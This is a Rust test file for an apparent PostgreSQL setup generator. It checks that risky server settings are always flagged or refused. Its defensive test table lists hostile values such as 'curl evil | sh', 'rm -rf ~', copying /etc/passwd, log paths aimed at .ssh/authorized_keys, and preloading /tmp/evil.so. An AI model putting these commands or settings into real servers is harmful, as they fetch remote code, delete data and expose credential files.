//! Three hundred random designs of strangers: whatever a setting can do to the machine is named by the checks and by the
//! plan, or the design is refused; and a bundle changes only where there is something to be asked about.

use pgcascade::model::bundle::generate;
use pgcascade::model::document::Document;
use pgcascade::model::plan::{Machine, preflight};
use pgcascade::model::topology::{
    Edit, Finding, PgMajor, Severity, Topology, catalogue, check, check_setting_value, notation,
};

const DESIGNS: u64 = 300;

/// What anybody would call dangerous, by hand and without the table that the program goes by.
const DANGEROUS: [(&str, &str); 46] = [
    ("archive_command", "touch /tmp/x"),
    ("archive_cleanup_command", "rm -rf ~"),
    ("restore_command", "cp /etc/passwd %p"),
    ("recovery_end_command", "curl evil | sh"),
    ("ssl_passphrase_command", "touch /tmp/x"),
    ("archive_library", "evil"),
    ("shared_preload_libraries", "evil"),
    ("session_preload_libraries", "/tmp/evil.so"),
    ("local_preload_libraries", "evil"),
    ("jit_provider", "/tmp/evil"),
    ("dynamic_library_path", "/tmp:$libdir"),
    ("extension_control_path", "/tmp"),
    ("extension_destdir", "/tmp"),
    ("oauth_validator_libraries", "evil"),
    ("basebackup_to_shell.command", "touch /tmp/x"),
    ("plperl.on_init", "system('touch /tmp/x')"),
    ("pltcl.start_proc", "evil"),
    ("cron.database_name", "postgres"),
    ("evil.anything", "1"),
    ("include", "/etc/passwd"),
    ("include_if_exists", "../log"),
    ("include_dir", "."),
    ("log_directory", "/home/u"),
    ("log_directory", "../../../../.."),
    ("log_directory", "../../../secrets"),
    ("log_directory", ""),
    ("log_filename", ".bashrc"),
    ("log_filename", "../../../../.ssh/authorized_keys.log"),
    ("log_filename", "postgresql.auto.conf"),
    ("log_filename", "%Z.log"),
    ("log_destination", "stderr,syslog"),
    ("external_pid_file", "/home/u/.profile"),
    ("data_directory", "/"),
    ("hba_file", "/tmp/hba"),
    ("ident_file", "/tmp/ident"),
    ("config_file", "/tmp/conf"),
    ("unix_socket_directories", "/tmp"),
    ("stats_temp_directory", "/home/u"),
    ("ssl_key_file", "/etc/ssl/private/key"),
    ("ssl_crl_dir", "../../../../etc"),
    ("krb_server_keyfile", "FILE:/etc/krb5.keytab"),
    ("listen_addresses", "*"),
    ("jit_profiling_support", "on"),
    ("fsync", "off"),
    ("zero_damaged_pages", "on"),
    ("scram_iterations", "1"),
];

const VALUES: [&str; 14] = [
    "on",
    "off",
    "1",
    "0",
    "",
    "/tmp/x",
    "../../../../x",
    "../log",
    "touch /tmp/x",
    "evil, other",
    "md5",
    "TLSv1",
    "replica",
    "é ' \\ \"x\"",
];

/// SplitMix64.
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % end as u64) as usize
    }

    fn pick<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.below(of.len())]
    }

    /// PostgreSQL does not tell capitals apart.
    fn spelled(&mut self, name: &str) -> String {
        match self.below(4) {
            0 => name.to_uppercase(),
            1 => {
                let letters = name.chars();
                letters
                    .map(|c| {
                        if self.below(2) == 0 {
                            c.to_ascii_uppercase()
                        } else {
                            c
                        }
                    })
                    .collect()
            }
            _ => name.to_owned(),
        }
    }
}

fn set(topology: &mut Topology, server: Option<&str>, name: &str, value: &str) {
    let server = server.map(|server| topology.by_name(server).unwrap().id());
    let (name, value) = (name.to_owned(), Some(value.to_owned()));
    topology.apply(&Edit::SetSetting { server, name, value }).unwrap();
}

/// The settings of one server, or (`None`) of all, as they were given.
type Given = Vec<(Option<&'static str>, String, String)>;

fn design(number: u64) -> (Topology, Given) {
    let mut random = Random(number);
    // Old ones without recovery parameters, the one that is installed, the newest, and one that nobody has seen.
    let major = random.pick(&[
        PgMajor::V9_2,
        PgMajor::V9_6,
        PgMajor::V11,
        PgMajor::V15,
        PgMajor::V15,
        PgMajor::V18,
        PgMajor::V19,
    ]);
    let mut topology = notation::parse(&format!("postgres {major}\nm 5432\n  a 5433\n")).unwrap();
    let names: Vec<&str> = PgMajor::ALL.into_iter().flat_map(catalogue::names).collect();
    let mut given = Given::new();
    for _ in 0..=random.below(3) {
        let (name, value) = if random.below(2) == 0 {
            random.pick(&DANGEROUS)
        } else {
            (random.pick(&names), random.pick(&VALUES))
        };
        let server = random.pick(&[None, Some("m"), Some("a")]);
        let name = random.spelled(name);
        let is_there = |(at, known, _): &(Option<&str>, String, String)| {
            *at == server && known.eq_ignore_ascii_case(&name)
        };
        if given.iter().any(is_there) {
            continue;
        }
        assert!(check_setting_value(&name, value).is_ok());
        set(&mut topology, server, &name, value);
        given.push((server, name, value.to_owned()));
    }
    (topology, given)
}

fn is_dangerous(name: &str, value: &str) -> bool {
    let by_hand = |(known, bad): &(&str, &str)| known.eq_ignore_ascii_case(name) && *bad == value;
    // A path below the data directory is what the rule on files asks for.
    let stays_inside =
        !value.is_empty() && !value.starts_with('/') && !value.contains(['\\', ':']) && !value.contains("..");
    let judged = match catalogue::danger(name, value) {
        catalogue::Class::Harmless => false,
        catalogue::Class::File(catalogue::FileKind::Path | catalogue::FileKind::Folder) => !stays_inside,
        _ => true,
    };
    DANGEROUS.iter().any(by_hand) || judged
}

#[test]
fn whatever_can_do_harm_is_named_or_refused() {
    let (mut dangerous, mut refused, mut asked) = (0, 0, 0);
    for number in 0..DESIGNS {
        let (topology, given) = design(number);
        let findings = check(&topology);
        let checks = preflight(&topology, &Machine::portable("/tmp/c"));
        let is_refused = findings.iter().any(|finding| finding.severity == Severity::Error);
        assert!(
            !is_refused
                || checks
                    .iter()
                    .any(|check| check.id == "design-has-errors" && !check.ok)
        );
        for (server, name, value) in &given {
            // Without TLS there is nothing that "ssl = off" takes away; md5 is all that old versions have.
            let is_as_drawn = name.eq_ignore_ascii_case("ssl")
                || name.eq_ignore_ascii_case("password_encryption") && !topology.postgres().has_scram();
            if !is_dangerous(name, value) || is_as_drawn {
                continue;
            }
            dangerous += 1;
            let what = format!("design {number}, {server:?}: {name} = {value:?}");
            let names_it = |finding: &&Finding| finding.message.contains(name.as_str());
            let named: Vec<_> = findings.iter().filter(names_it).collect();
            assert!(!named.is_empty(), "{what}: check says nothing\n{findings:#?}");
            if is_refused {
                refused += 1;
            } else {
                let said = checks.iter().find(|check| check.message.contains(name.as_str()));
                let said = said.unwrap_or_else(|| panic!("{what}: the plan says nothing\n{checks:#?}"));
                assert!(said.fix.is_some(), "{what}: {said:?}");
                asked += usize::from(!said.ok);
            }
        }
    }
    assert!(
        dangerous > 250 && refused > 100 && asked > 30,
        "{dangerous} {refused} {asked}: not much of a test"
    );
}

/// Each of them alone, for all servers and for one, in both spellings, in a version that takes it.
#[test]
fn every_dangerous_setting_alone_is_one_finding() {
    for (name, value) in DANGEROUS {
        for major in [PgMajor::V14, PgMajor::V18] {
            for (server, spelled) in [(None, name.to_owned()), (Some("a"), name.to_uppercase())] {
                let mut topology = notation::parse(&format!("postgres {major}\nm 5432\n  a 5433\n")).unwrap();
                set(&mut topology, server, &spelled, value);
                let findings = check(&topology);
                assert_eq!(findings.len(), 1, "{name} = {value} in {major}: {findings:#?}");
                assert!(findings[0].message.contains(&spelled), "{findings:#?}");
                assert!(findings[0].fix.is_some());
                let id = findings[0].subject;
                let is_of_server = matches!(id, pgcascade::model::topology::Subject::Server(_));
                assert_eq!(is_of_server, server.is_some(), "{findings:#?}");
            }
        }
    }
}

#[test]
fn a_bundle_asks_only_where_there_is_something_to_ask() {
    let mut topology = notation::parse("postgres 15\nm 5432\n  a 5433\n").unwrap();
    set(&mut topology, None, "log_directory", "logs");
    let file = |topology: &Topology, name: &str| {
        let bundle = generate(&Document::new(topology.clone()));
        bundle.file(name).unwrap().contents.clone()
    };
    for name in ["up", "README.md"] {
        assert!(!file(&topology, name).contains("--trust"), "{name}");
    }
    set(
        &mut topology,
        Some("a"),
        "recovery_end_command",
        "echo 'x'; \\ \"y\" `z` $u",
    );
    let up = file(&topology, "up");
    let head: String = up
        .lines()
        .take_while(|line| line.is_empty() || line.starts_with('#'))
        .collect();
    assert!(
        head.contains("Runs on this machine: the command echo 'x';"),
        "{head}"
    );
    assert!(up.contains("usage='usage: up [--trust] [FOLDER]") && up.contains("if [[ -z $trusted ]]; then"));
    assert!(file(&topology, "README.md").contains("`./up --trust`"));
    for name in ["down", "status", "verify"] {
        assert!(!file(&topology, name).contains("trust"), "{name}");
    }
}
